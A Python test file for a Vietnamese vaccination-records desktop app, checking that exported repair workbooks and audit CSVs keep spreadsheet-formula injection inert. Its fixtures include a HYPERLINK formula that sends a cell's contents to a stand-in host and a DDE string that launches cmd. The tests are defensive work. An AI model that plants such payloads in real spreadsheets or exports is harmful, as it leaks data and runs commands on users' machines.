"""No file VaxDesk writes runs a formula: the backfill's rows to fix and the audit trail's
CSV, read back the way Excel's readers and Python's do."""

from __future__ import annotations

import csv
import zipfile
from datetime import date

from desktop_app.progress import drain
from desktop_app.rules.safe_cells import csv_cell
from desktop_app.services import accounts, audit
from desktop_app.services.actor import AT_THIS_LAPTOP, Actor, Role
from desktop_app.services.backfill import import_file
from desktop_app.services.backfill_report import save_reports
from tests.importers.sheets import HEADERS, person_row, write_csv

LINK = '=HYPERLINK("http://x.example/?q="&B5,"Bấm vào đây")'
DDE = "-2+3+cmd|' /C calc'!A0"


def test_the_rows_to_fix_are_text_never_formulas(db, site, tmp_path):
    from openpyxl import load_workbook
    from python_calamine import CalamineWorkbook

    path = write_csv(tmp_path / "f.csv", [
        person_row(1, name=LINK, vaccine="Vắc xin lạ", phone="+84912345678"),
        person_row(2, name="Lê Văn Tám", vaccine="@SUM(A1)", dose="-5", cccd=DDE)])
    report = drain(import_file(db, path, today=date(2026, 11, 23), actor=AT_THIS_LAPTOP))
    assert report.counts["rejected"] == 2
    fix = tmp_path / "can-sua.xlsx"
    save_reports(report, fix_path=fix)

    rows = CalamineWorkbook.from_path(str(fix)).get_sheet_by_index(0).to_python()
    name, phone, vaccine, dose, cccd = (HEADERS.index(h) for h in (
        "Họ và tên", "Số điện thoại", "Tên vắc xin", "Mũi thứ", "Số CCCD/CMND"))
    assert (rows[1][name], rows[1][phone]) == (LINK, "+84912345678")  # the same text
    assert (rows[2][vaccine], rows[2][dose], rows[2][cccd]) == ("@SUM(A1)", "-5", DDE)
    sheet = load_workbook(fix).active
    cells = [sheet.cell(row=r, column=c + 1) for r, c in ((2, name), (2, phone), (3, vaccine),
                                                          (3, dose), (3, cccd))]
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)  # text, kept text
    assert b"<f>" not in zipfile.ZipFile(fix).read("xl/worksheets/sheet1.xml")


def test_a_header_with_a_control_character_still_gives_the_rows_to_fix(db, site, tmp_path):
    """Word's manual line break (\x0b) in a header cell: the import took the file, and the
    rows to fix could not be saved (openpyxl refuses the character)."""
    import csv as csv_module

    from python_calamine import CalamineWorkbook

    path = tmp_path / "f.csv"
    with open(path, "w", encoding="utf-8", newline="") as f:
        writer = csv_module.writer(f)
        writer.writerow([*HEADERS, "Ghi chú\x0b(nội bộ)"])
        writer.writerow([*person_row(1, name=""), "x"])  # refused: no name
    report = drain(import_file(db, path, today=date(2026, 11, 23), actor=AT_THIS_LAPTOP))
    assert report.counts["rejected"] == 1
    fix = tmp_path / "can-sua.xlsx"
    save_reports(report, fix_path=fix)
    header = CalamineWorkbook.from_path(str(fix)).get_sheet_by_index(0).to_python()[0]
    assert "Ghi chú(nội bộ)" in header


def test_the_audit_export_writes_no_formula_either(db, site, tmp_path):
    account = accounts.add_user(db, "tinhnguyen", LINK, "volunteer", "mật khẩu tình nguyện",
                                actor=AT_THIS_LAPTOP)
    drain(import_file(db, write_csv(tmp_path / "f.csv", [person_row(1)]),
                      today=date(2026, 11, 23), actor=Actor(account.id, LINK, Role.VOLUNTEER)))
    out = tmp_path / "audit.csv"
    audit.export(db, out, "vi", actor=AT_THIS_LAPTOP)
    with open(out, encoding="utf-8-sig", newline="") as f:
        users = [r[2] for r in csv.reader(f)]
    # Who did it is "login (Full Name)" since 338e6280: the formula typed as a full name
    # is inside the cell, not at its start, so nothing runs; a name alone would be guarded.
    assert f"tinhnguyen ({LINK})" in users
    assert not [u for u in users if u[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_a_csv_cell_is_guarded_only_when_something_could_run():
    cells = [LINK, "@SUM(A1)", "\t=1", "\r=1", DDE, "+84 912 345 678",  # guarded
             "+84912345678", "-5", "-1.5", -5, 3.25, None, "Lê Văn Tám"]  # as they are
    out = [csv_cell(c) for c in cells]
    assert out[:6] == ["'" + c for c in cells[:6]]
    assert out[6:] == cells[6:]
